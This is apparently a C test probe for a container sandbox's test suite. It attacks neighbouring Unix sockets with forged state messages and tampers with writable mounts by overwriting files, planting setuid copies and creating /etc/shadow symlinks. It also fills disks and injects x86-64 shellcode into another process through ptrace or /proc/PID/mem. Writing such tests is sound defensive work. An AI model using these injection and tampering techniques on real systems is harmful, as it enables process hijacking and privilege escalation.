/* A hostile workload for test_hostile.sh (issue 23): it attacks what we put
 * next to it, with no capability beyond what its config gives. Static (it runs
 * in a busybox root filesystem). Each attempt prints one line of key=value
 * words, "door=NAME" first; an errno is errno:N, success ok. Every mode ends
 * with "door=NAME done". It knows none of our file names: it looks.
 *   hostile_probe [-w] agent [ROOT]   every path  under ROOT (default
 *                      /.oci-seccomp-tsync) and every path socket in
 *                      /proc/net/unix: connect, send a forged runc-style state
 *                      with an fd, then wait for the peer to close (so that an
 *                      agent has read and logged it when this returns);
 *                      first a line with getppid()'s answer (a notify agent's
 *                      for a layer that sends it getppid)
 *   hostile_probe [-w] hold [ROOT]    connect to the same, hold every
 *                      connection open (a partial state sent) for two seconds,
 *                      then close and wait for the peer to close
 *   hostile_probe [-w] tamper [ROOT]  in every writable mount and every
 *                      directory under ROOT: create hostile-HOST-file, chmod
 *                      the directory 0777, create hostile-HOST-suid (a copy of
 *                      this program, chmod 04755), symlink hostile-HOST-link to
 *                      /etc/shadow; before that, overwrite the start of every
 *                      regular file under ROOT it can open for writing (HOST:
 *                      the container's hostname)
 *   hostile_probe [-w] fill MIB [ROOT]  write MIB MiB to hostile-HOST-fill in
 *                      the same directories, one line each: wrote=BYTES errno
 *   hostile_probe [-w] ptrace MARKER [exec]  find the process running
 *                      `sleep MARKER`, take it over with PTRACE_SEIZE and make
 *                      it call mkdir("/tmp/hostile-ptrace") (x86-64); with
 *                      exec, execve("/bin/mkdir", /tmp/hostile-ptrace-exec)
 *   hostile_probe [-w] mem MARKER [exec]  the same through /proc/PID/mem, no
 *                      ptrace call: SIGSTOP, code written at its syscall's
 *                      return address, SIGCONT; /tmp/hostile-mem[-exec]
 *   hostile_probe [-w] supervisor     open /proc/1/task/TID/mem of every thread
 *                      of PID 1 read-write
 * The hijack's line: target=PID filters=N (the target's Seccomp_filters)
 * init_filters=N (PID 1's) hijack=ok|errno:N call=mkdir|execve
 * result=ok|errno:N|ran (execve: the process became another program)
 * created=yes|no.
 * The taken-over process ends in a pause() loop with mkdir's result in rdi,
 * which /proc/PID/syscall shows. -w: after "done", wait until killed (the test
 * reads the container's state meanwhile). Exit 0 unless the probe cannot run. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define AGENT_ROOT  "/.oci-seccomp-tsync"
#define MAX_PATHS   512
#define MAX_DEPTH   8
#define MARK        "hostile-"
#define WAIT_TRIES  1200 /* x 50 ms: a guard against hanging, not a measure */
#define CHUNK       (1024 * 1024)
#define FORGED_META "forged-by-the-workload"

static const char *mode;
/* The names of what tamper and fill make: MARK, the container's hostname, '-': a test finds this
 * container's files wherever they end up on the host. */
static char mark[128];

/* "ok" or "errno:N" for a call that returned rc with errno e. */
static const char *res(long rc, int e, char *buf, size_t size)
{
        if (rc >= 0)
                return "ok";
        (void)snprintf(buf, size, "errno:%d", e);
        return buf;
}

static void nap(void)
{
        struct timespec ts = { 0, 50 * 1000 * 1000 };
        (void)nanosleep(&ts, NULL);
}

/* A set of paths, each once. */
struct paths {
        char *p[MAX_PATHS];
        size_t n;
};

static void add_path(struct paths *ps, const char *path)
{
        for (size_t i = 0; i < ps->n; i++)
                if (strcmp(ps->p[i], path) == 0)
                        return;
        if (ps->n < MAX_PATHS)
                ps->p[ps->n++] = strdup(path);
}

static bool ours(const char *path)
{
        const char *base = strrchr(path, '/');
        return strncmp(base ? base + 1 : path, MARK, strlen(MARK)) == 0;
}

/* Everything under root (not following symlinks): directories into dirs, the rest into others. */
static void walk(const char *root, int depth, struct paths *dirs, struct paths *others)
{
        struct stat st;
        if (lstat(root, &st) < 0)
                return;
        if (!S_ISDIR(st.st_mode)) {
                if (others)
                        add_path(others, root);
                return;
        }
        if (dirs)
                add_path(dirs, root);
        DIR *d = depth < MAX_DEPTH ? opendir(root) : NULL;
        if (!d)
                return;
        struct dirent *e;
        while ((e = readdir(d))) {
                char path[4096];
                if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0 || ours(e->d_name))
                        continue;
                if (snprintf(path, sizeof(path), "%s/%s", strcmp(root, "/") == 0 ? "" : root, e->d_name) <
                    (int)sizeof(path))
                        walk(path, depth + 1, dirs, others);
        }
        (void)closedir(d);
}

/* mountinfo's octal escapes (\040 for a space) undone in place. */
static void unescape(char *s)
{
        char *o = s;
        for (char *i = s; *i; i++) {
                if (i[0] == '\\' && i[1] >= '0' && i[1] <= '3' && i[2] >= '0' && i[2] <= '7' && i[3] >= '0' &&
                    i[3] <= '7') {
                        *o++ = (char)((i[1] - '0') * 64 + (i[2] - '0') * 8 + (i[3] - '0'));
                        i += 3;
                } else {
                        *o++ = *i;
                }
        }
        *o = '\0';
}

/* The kernel's own file systems: nothing can be dropped there, and a chmod
 * would reach kernel objects, not a place of ours. */
static bool pseudo_fs(const char *type)
{
        static const char *const types[] = {
                "proc",       "sysfs",   "cgroup",  "cgroup2", "devpts",   "mqueue", "bpf",
                "securityfs", "debugfs", "tracefs", "fusectl", "configfs", "pstore", NULL
        };
        for (const char *const *t = types; *t; t++)
                if (strcmp(*t, type) == 0)
                        return true;
        return false;
}

/* Every directory mounted with neither the mount nor its superblock read-only,
 * on a file system that can hold files. */
static void writable_mounts(struct paths *dirs)
{
        char line[4096], point[4096], opts[1024], type[256], super[1024];
        FILE *f = fopen("/proc/self/mountinfo", "re");
        if (!f)
                return;
        while (fgets(line, sizeof(line), f)) {
                char *sep = strstr(line, " - ");
                if (!sep || sscanf(line, "%*s %*s %*s %*s %4095s %1023s", point, opts) != 2 ||
                    sscanf(sep + 3, "%255s %*s %1023s", type, super) != 2 || pseudo_fs(type))
                        continue;
                bool ro = false;
                char *save = NULL;
                for (char *o = strtok_r(opts, ",", &save); o; o = strtok_r(NULL, ",", &save))
                        ro |= strcmp(o, "ro") == 0;
                for (char *o = strtok_r(super, ",", &save); o; o = strtok_r(NULL, ",", &save))
                        ro |= strcmp(o, "ro") == 0;
                if (ro)
                        continue;
                unescape(point);
                struct stat st;
                if (lstat(point, &st) == 0 && S_ISDIR(st.st_mode))
                        add_path(dirs, point);
        }
        (void)fclose(f);
}

/* The directories to attack: writable mounts and everything under root. */
static void target_dirs(const char *root, struct paths *dirs, struct paths *files)
{
        writable_mounts(dirs);
        walk(root, 0, dirs, files);
}

/* Path sockets of /proc/net/unix (the last column, when it starts with '/'). */
static void unix_sockets(struct paths *ps)
{
        char line[4096];
        FILE *f = fopen("/proc/net/unix", "re");
        if (!f)
                return;
        while (fgets(line, sizeof(line), f)) {
                line[strcspn(line, "\n")] = '\0';
                char *path = strrchr(line, ' ');
                if (path && path[1] == '/')
                        add_path(ps, path + 1);
        }
        (void)fclose(f);
}

static int connect_to(const char *path, int *ret_errno)
{
        struct sockaddr_un addr = { .sun_family = AF_UNIX };
        if (strlen(path) >= sizeof(addr.sun_path)) {
                *ret_errno = ENAMETOOLONG;
                return -1;
        }
        memcpy(addr.sun_path, path, strlen(path) + 1);
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
                *ret_errno = errno;
                if (fd >= 0)
                        (void)close(fd);
                return -1;
        }
        *ret_errno = 0;
        return fd;
}

/* A runc-style state naming another container, with an fd of ours (a pipe's end). */
static void send_forged(int fd, const char *path)
{
        static const char state[] =
                "{\"ociVersion\":\"1.0.2\",\"fds\":[\"seccompFd\"],\"pid\":1,\"metadata\":\"" FORGED_META
                "\",\"state\":{\"ociVersion\":\"1.0.2\",\"id\":\"" FORGED_META
                "\",\"status\":\"running\",\"pid\":1,\"bundle\":\"/forged\","
                "\"annotations\":{\"forged\":\"yes\"}}}";
        int p[2];
        char eb[32];
        if (pipe2(p, O_CLOEXEC) < 0) {
                say("door=%s sent=%s bytes=0 %s", mode, path, res(-1, errno, eb, sizeof(eb)));
                return;
        }
        union {
                char buf[CMSG_SPACE(sizeof(int))];
                struct cmsghdr align;
        } control;
        struct iovec iov = { .iov_base = (void *)state, .iov_len = sizeof(state) - 1 };
        struct msghdr msg = {
                .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf, .msg_controllen = sizeof(control.buf)
        };
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &p[0], sizeof(int));
        ssize_t n = sendmsg(fd, &msg, MSG_NOSIGNAL);
        say("door=%s sent=%s bytes=%zd %s", mode, path, n < 0 ? 0 : n, res(n, errno, eb, sizeof(eb)));
        (void)close(p[0]);
        (void)close(p[1]);
}

/* Closes our side for writing, then waits until the peer closes (bounded). */
static void finish(int fd, const char *path)
{
        char buf[256];
        struct timeval tv = { .tv_sec = 30 };
        (void)shutdown(fd, SHUT_WR);
        (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
        ssize_t n;
        while ((n = read(fd, buf, sizeof(buf))) > 0)
                ;
        say("door=%s closed=%s eof=%s", mode, path, n == 0 ? "yes" : "timeout");
        (void)close(fd);
}

static void socket_paths(const char *root, struct paths *ps)
{
        walk(root, 0, NULL, ps);
        unix_sockets(ps);
}

static int cmd_agent(const char *root)
{
        struct paths ps = { 0 };
        char eb[32];
        say("door=agent ppid=%d", getppid());
        socket_paths(root, &ps);
        for (size_t i = 0; i < ps.n; i++) {
                int e;
                int fd = connect_to(ps.p[i], &e);
                say("door=agent connect=%s %s", ps.p[i], res(fd, e, eb, sizeof(eb)));
                if (fd < 0)
                        continue;
                send_forged(fd, ps.p[i]);
                finish(fd, ps.p[i]);
        }
        return 0;
}

static int cmd_hold(const char *root)
{
        struct paths ps = { 0 };
        int fds[MAX_PATHS];
        char eb[32];
        say("door=hold ppid=%d", getppid());
        socket_paths(root, &ps);
        for (size_t i = 0; i < ps.n; i++) {
                int e;
                fds[i] = connect_to(ps.p[i], &e);
                say("door=hold connect=%s %s", ps.p[i], res(fds[i], e, eb, sizeof(eb)));
                /* The start of a state: an agent reading it waits for the rest. */
                if (fds[i] >= 0)
                        (void)send(fds[i], "{\"ociVersion\":", 14, MSG_NOSIGNAL);
        }
        (void)sleep(2);
        for (size_t i = 0; i < ps.n; i++)
                if (fds[i] >= 0)
                        finish(fds[i], ps.p[i]);
        return 0;
}

/* A copy of this program at path, mode 04755: what a host user would run. */
static long drop_suid(const char *path, int *ret_errno)
{
        char buf[65536];
        int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
        int out = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
        long r = -1;
        ssize_t n;
        if (in < 0 || out < 0)
                goto out;
        while ((n = read(in, buf, sizeof(buf))) > 0)
                if (write(out, buf, (size_t)n) != n)
                        goto out;
        r = fchmod(out, 04755);
out:
        *ret_errno = errno;
        if (in >= 0)
                (void)close(in);
        if (out >= 0)
                (void)close(out);
        return r;
}

static int cmd_tamper(const char *root)
{
        struct paths dirs = { 0 }, files = { 0 };
        char p[4096], e1[32], e2[32], e3[32], e4[32];
        target_dirs(root, &dirs, &files);
        for (size_t i = 0; i < files.n; i++) {
                int fd = open(files.p[i], O_WRONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
                int e = errno;
                long r = fd;
                if (fd >= 0) {
                        r = pwrite(fd, "hostile garbage\n", 16, 0);
                        e = errno;
                        (void)close(fd);
                }
                say("door=tamper break=%s %s", files.p[i], res(r, e, e1, sizeof(e1)));
        }
        for (size_t i = 0; i < dirs.n; i++) {
                const char *d = strcmp(dirs.p[i], "/") == 0 ? "" : dirs.p[i];
                int e;
                (void)snprintf(p, sizeof(p), "%s/%sfile", d, mark);
                int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
                e = errno;
                if (fd >= 0) {
                        (void)write(fd, "x\n", 2);
                        (void)close(fd);
                }
                long c = chmod(dirs.p[i], 0777);
                int ce = errno;
                (void)snprintf(p, sizeof(p), "%s/%ssuid", d, mark);
                int se;
                long s = drop_suid(p, &se);
                (void)snprintf(p, sizeof(p), "%s/%slink", d, mark);
                long l = symlink("/etc/shadow", p);
                int le = errno;
                say("door=tamper dir=%s create=%s chmod=%s suid=%s link=%s", dirs.p[i], res(fd, e, e1, sizeof(e1)),
                    res(c, ce, e2, sizeof(e2)), res(s, se, e3, sizeof(e3)), res(l, le, e4, sizeof(e4)));
        }
        return 0;
}

static int cmd_fill(long mib, const char *root)
{
        struct paths dirs = { 0 };
        static char chunk[CHUNK];
        char p[4096], eb[32];
        memset(chunk, 'h', sizeof(chunk));
        target_dirs(root, &dirs, NULL);
        for (size_t i = 0; i < dirs.n; i++) {
                (void)snprintf(p, sizeof(p), "%s/%sfill", strcmp(dirs.p[i], "/") == 0 ? "" : dirs.p[i], mark);
                int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
                long long wrote = 0;
                long r = fd;
                int e = errno;
                for (long k = 0; fd >= 0 && k < mib; k++) {
                        r = write(fd, chunk, sizeof(chunk));
                        e = errno;
                        if (r > 0)
                                wrote += r;
                        if (r != (long)sizeof(chunk))
                                break;
                }
                if (fd >= 0 && fsync(fd) < 0 && r >= 0) {
                        r = -1;
                        e = errno;
                }
                if (fd >= 0)
                        (void)close(fd);
                say("door=fill dir=%s wrote=%lld %s", dirs.p[i], wrote, res(r < 0 ? -1 : 0, e, eb, sizeof(eb)));
        }
        return 0;
}

/* Seccomp_filters: of /proc/PID/status. */
static int filter_count(int pid)
{
        char path[64], buf[4096];
        int n = -1;
        (void)snprintf(path, sizeof(path), "/proc/%d/status", pid);
        FILE *f = fopen(path, "re");
        if (!f)
                return -1;
        while (fgets(buf, sizeof(buf), f))
                if (sscanf(buf, "Seccomp_filters: %d", &n) == 1)
                        break;
        (void)fclose(f);
        return n;
}

/* The start of /proc/PID/NAME into buf, NUL-terminated: its length, or -errno. */
static ssize_t proc_read(int pid, const char *name, char *buf, size_t size)
{
        char path[64];
        (void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return -errno;
        ssize_t n = read(fd, buf, size - 1);
        int e = errno;
        (void)close(fd);
        if (n < 0)
                return -e;
        buf[n] = '\0';
        return n;
}

/* Whether pid runs `*sleep MARKER`. */
static bool is_target(int pid, const char *marker)
{
        char cmd[256] = { 0 };
        ssize_t n = proc_read(pid, "cmdline", cmd, sizeof(cmd));
        size_t len = n > 0 ? strlen(cmd) : 0;
        return len >= 5 && strcmp(cmd + len - 5, "sleep") == 0 && (ssize_t)len + 1 < n &&
               strcmp(cmd + len + 1, marker) == 0;
}

/* The process running `*sleep MARKER`, waited for (bounded). */
static int find_target(const char *marker)
{
        for (int tries = 0; tries < WAIT_TRIES; tries++, nap()) {
                DIR *d = opendir("/proc");
                struct dirent *e;
                while (d && (e = readdir(d))) {
                        int pid = atoi(e->d_name);
                        if (pid > 1 && pid != getpid() && is_target(pid, marker)) {
                                (void)closedir(d);
                                return pid;
                        }
                }
                if (d)
                        (void)closedir(d);
        }
        return -1;
}

/* /proc/PID/syscall: the call it is blocked in, its first argument, its pc. */
static int blocked_in(int pid, long *ret_nr, unsigned long *ret_arg0, unsigned long *ret_pc)
{
        char buf[512] = { 0 };
        unsigned long a[6], sp;
        ssize_t n = proc_read(pid, "syscall", buf, sizeof(buf));
        if (n < 0)
                return (int)n;
        if (sscanf(buf, "%ld 0x%lx 0x%lx 0x%lx 0x%lx 0x%lx 0x%lx 0x%lx 0x%lx", ret_nr, &a[0], &a[1], &a[2], &a[3],
                   &a[4], &a[5], &sp, ret_pc) != 9)
                return -EAGAIN; /* running, or not in a call */
        *ret_arg0 = a[0];
        return 0;
}

#if defined(__x86_64__)
/* The code put at a blocked call's `syscall` instruction (pc - 2), one of:
 *   jmp +0                   (resumed at pc - 2 by a restart, or at pc)
 *   mkdir:  lea rdi, [rip + dir]; mov esi, 0755; mov eax, SYS_mkdir; syscall
 *   execve: lea rdi, [rip + "/bin/mkdir"]; lea rax, [rip + dir]; push 0; push rax;
 *           push rdi; mov rsi, rsp; xor edx, edx; mov eax, SYS_execve; syscall
 *   mov rdi, rax             (the result, for /proc/PID/syscall)
 *   1: mov eax, SYS_pause; syscall; jmp 1b
 *   the strings */
#define MKDIR_PROG "/bin/mkdir"
static const uint8_t code_mkdir[] = { 0xeb, 0x00, 0x48, 0x8d, 0x3d,      0,    0,    0,    0,    0xbe, 0xed,
                                      0x01, 0x00, 0x00, 0xb8, SYS_mkdir, 0x00, 0x00, 0x00, 0x0f, 0x05 };
static const uint8_t code_execve[] = { 0xeb, 0x00, 0x48, 0x8d, 0x3d,       0,    0,    0,    0,    0x48, 0x8d,
                                       0x05, 0,    0,    0,    0,          0x6a, 0x00, 0x50, 0x57, 0x48, 0x89,
                                       0xe6, 0x31, 0xd2, 0xb8, SYS_execve, 0x00, 0x00, 0x00, 0x0f, 0x05 };
static const uint8_t code_tail[] = { 0x48, 0x89, 0xc7, 0xb8, SYS_pause, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb, 0xf7 };

/* rip-relative displacement at code[at..at+4) (the instruction ends there) to target. */
static void rel32(uint8_t *code, size_t at, size_t target)
{
        int32_t off = (int32_t)(target - (at + 4));
        memcpy(code + at, &off, sizeof(off));
}

static size_t shellcode(uint8_t *code, size_t size, bool exec, const char *dir)
{
        const uint8_t *head = exec ? code_execve : code_mkdir;
        size_t n = exec ? sizeof(code_execve) : sizeof(code_mkdir), strings = n + sizeof(code_tail);
        size_t len = strings + strlen(MKDIR_PROG) + 1 + strlen(dir) + 1;
        if (len > size)
                return 0;
        memcpy(code, head, n);
        memcpy(code + n, code_tail, sizeof(code_tail));
        if (exec) {
                memcpy(code + strings, MKDIR_PROG, strlen(MKDIR_PROG) + 1);
                memcpy(code + strings + strlen(MKDIR_PROG) + 1, dir, strlen(dir) + 1);
                rel32(code, 5, strings);
                rel32(code, 12, strings + strlen(MKDIR_PROG) + 1);
        } else {
                memcpy(code + strings, dir, strlen(dir) + 1);
                rel32(code, 5, strings);
        }
        /* Whole words for PTRACE_POKEDATA: pad with what follows (zeros). */
        return (len + 7) & ~(size_t)7;
}

static int hijack_ptrace(int pid, bool exec, const char *dir)
{
        uint8_t code[160] = { 0 };
        struct user_regs_struct regs;
        int status;
        size_t len = shellcode(code, sizeof(code), exec, dir);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                return -errno;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 ||
            ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
                return -errno;
        unsigned long at = regs.rip - 2;
        for (size_t i = 0; i < len; i += 8) {
                long word;
                memcpy(&word, code + i, sizeof(word));
                if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0)
                        return -errno;
        }
        regs.rip = at;
        regs.orig_rax = (unsigned long)-1; /* no restart of the interrupted call */
        if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
                return -errno;
        return 0;
}

static bool stopped(int pid)
{
        char buf[512] = { 0 };
        ssize_t n = proc_read(pid, "stat", buf, sizeof(buf));
        char *p = n > 0 ? strrchr(buf, ')') : NULL;
        return p && (p[2] == 'T' || p[2] == 't');
}

static int hijack_mem(int pid, bool exec, const char *dir)
{
        uint8_t code[160] = { 0 };
        char path[64];
        long nr;
        unsigned long arg0, pc;
        size_t len = shellcode(code, sizeof(code), exec, dir);
        int r = blocked_in(pid, &nr, &arg0, &pc);
        if (r < 0)
                return r;
        (void)snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd < 0)
                return -errno;
        if (kill(pid, SIGSTOP) < 0) {
                r = -errno;
                (void)close(fd);
                return r;
        }
        for (int tries = 0; tries < WAIT_TRIES && !stopped(pid); tries++)
                nap();
        ssize_t n = pwrite(fd, code, len, (off_t)(pc - 2));
        r = n == (ssize_t)len ? 0 : n < 0 ? -errno : -EIO;
        (void)close(fd);
        (void)kill(pid, SIGCONT);
        return r;
}

static int cmd_hijack(bool by_ptrace, bool exec, const char *marker)
{
        char dir[64], e1[32], e2[32];
        struct stat st;
        (void)snprintf(dir, sizeof(dir), "/tmp/" MARK "%s%s", by_ptrace ? "ptrace" : "mem", exec ? "-exec" : "");
        int pid = find_target(marker);
        if (pid < 0) {
                say("door=%s target=none", mode);
                return 0;
        }
        /* Until it sleeps in its call (it may still be on its way from execve); where
         * /proc/PID/syscall is refused, the take-over below says why. */
        long nr = -1;
        unsigned long result = 0, pc;
        for (int tries = 0; tries < WAIT_TRIES && blocked_in(pid, &nr, &result, &pc) == -EAGAIN; tries++)
                nap();
        int filters = filter_count(pid), init_filters = filter_count(1);
        int r = by_ptrace ? hijack_ptrace(pid, exec, dir) : hijack_mem(pid, exec, dir);
        nr = -1;
        bool left = false;
        /* The taken-over process ends in pause() with the call's result in its first argument,
         * or it is another program (its execve worked). */
        for (int tries = 0; r == 0 && tries < WAIT_TRIES; tries++, nap()) {
                if (blocked_in(pid, &nr, &result, &pc) == 0 && nr == SYS_pause)
                        break;
                if ((left = !is_target(pid, marker)))
                        break;
        }
        const char *call_res = "none";
        if (left)
                call_res = "ran";
        else if (r == 0 && nr == SYS_pause)
                call_res = res((long)result, (int)-(long)result, e2, sizeof(e2));
        /* An exec'd mkdir may still be on its way: wait for the directory (bounded). */
        for (int tries = 0; left && tries < WAIT_TRIES && lstat(dir, &st) < 0; tries++)
                nap();
        say("door=%s target=%d filters=%d init_filters=%d hijack=%s call=%s result=%s created=%s", mode, pid, filters,
            init_filters, res(r, -r, e1, sizeof(e1)), exec ? "execve" : "mkdir", call_res,
            lstat(dir, &st) == 0 ? "yes" : "no");
        return 0;
}
#else
static int cmd_hijack(bool by_ptrace, bool exec, const char *marker)
{
        (void)by_ptrace;
        (void)exec;
        (void)marker;
        say("door=%s hijack=unsupported (not x86-64)", mode);
        return 0;
}
#endif

static int cmd_supervisor(void)
{
        char eb[32];
        DIR *d = opendir("/proc/1/task");
        struct dirent *e;
        while (d && (e = readdir(d))) {
                char path[300], comm[64] = { 0 };
                if (e->d_name[0] == '.')
                        continue;
                (void)snprintf(path, sizeof(path), "/proc/1/task/%s/comm", e->d_name);
                int fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd >= 0) {
                        (void)read(fd, comm, sizeof(comm) - 1);
                        (void)close(fd);
                }
                comm[strcspn(comm, "\n")] = '\0';
                (void)snprintf(path, sizeof(path), "/proc/1/task/%s/mem", e->d_name);
                fd = open(path, O_RDWR | O_CLOEXEC);
                say("door=supervisor task=%s comm=%s open=%s", e->d_name, comm, res(fd, errno, eb, sizeof(eb)));
                if (fd >= 0)
                        (void)close(fd);
        }
        if (d)
                (void)closedir(d);
        return 0;
}

static int usage(void)
{
        fprintf(stderr,
                "usage: hostile_probe [-w] agent|hold|tamper [ROOT] | fill MIB [ROOT] | ptrace|mem MARKER [exec] | "
                "supervisor\n");
        return 2;
}

int main(int argc, char **argv)
{
        bool wait = argc > 1 && strcmp(argv[1], "-w") == 0;
        int r;
        argv += wait ? 2 : 1;
        argc -= wait ? 2 : 1;
        if (argc < 1)
                return usage();
        mode = argv[0];
        char host[65] = { 0 };
        (void)gethostname(host, sizeof(host) - 1);
        (void)snprintf(mark, sizeof(mark), MARK "%s-", host);
        const char *root = argc > 1 ? argv[1] : AGENT_ROOT;
        if (strcmp(mode, "agent") == 0 && argc <= 2)
                r = cmd_agent(root);
        else if (strcmp(mode, "hold") == 0 && argc <= 2)
                r = cmd_hold(root);
        else if (strcmp(mode, "tamper") == 0 && argc <= 2)
                r = cmd_tamper(root);
        else if (strcmp(mode, "fill") == 0 && (argc == 2 || argc == 3))
                r = cmd_fill(atol(argv[1]), argc == 3 ? argv[2] : AGENT_ROOT);
        else if ((strcmp(mode, "ptrace") == 0 || strcmp(mode, "mem") == 0) &&
                 (argc == 2 || (argc == 3 && strcmp(argv[2], "exec") == 0)))
                r = cmd_hijack(strcmp(mode, "ptrace") == 0, argc == 3, argv[1]);
        else if (strcmp(mode, "supervisor") == 0 && argc == 1)
                r = cmd_supervisor();
        else
                return usage();
        say("door=%s done", mode);
        while (wait)
                (void)pause();
        return r;
}
